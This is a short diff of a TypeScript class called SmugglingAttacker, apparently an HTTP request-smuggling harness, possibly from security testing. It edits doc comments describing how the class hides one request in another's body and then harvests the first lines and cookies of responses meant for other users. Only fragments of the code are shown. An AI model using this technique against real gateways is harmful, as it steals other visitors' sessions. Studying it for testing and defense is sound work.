@@ -33,7 +33,7 @@ export class SmugglingAttacker {
     return new SmugglingAttacker(address, method, passwordOf(new URL(page.url), visitor.cookies));
   }
 
-  /** Sends the request whose body hides the other one. The body is sent a little later than the head. */
+  /** Sends the request whose body hides the other one. The body is sent only if the gateway asks for it (100 Continue). */
   async strike(): Promise<void> {
     const connection = await this.#send(
       this.#method,
@@ -46,7 +46,7 @@ export class SmugglingAttacker {
     connection.close();
   }
 
-  /** Requests a file of the sign-in page repeatedly, and keeps each response that belongs to another request. */
+  /** Requests a file of the sign-in page repeatedly, and keeps the first line and the cookies of each response that belongs to another request. */
   async collect(): Promise<void> {
     for (let round = 0; round < 4; round += 1) {
       const connection = await this.#send('GET', ownFile);
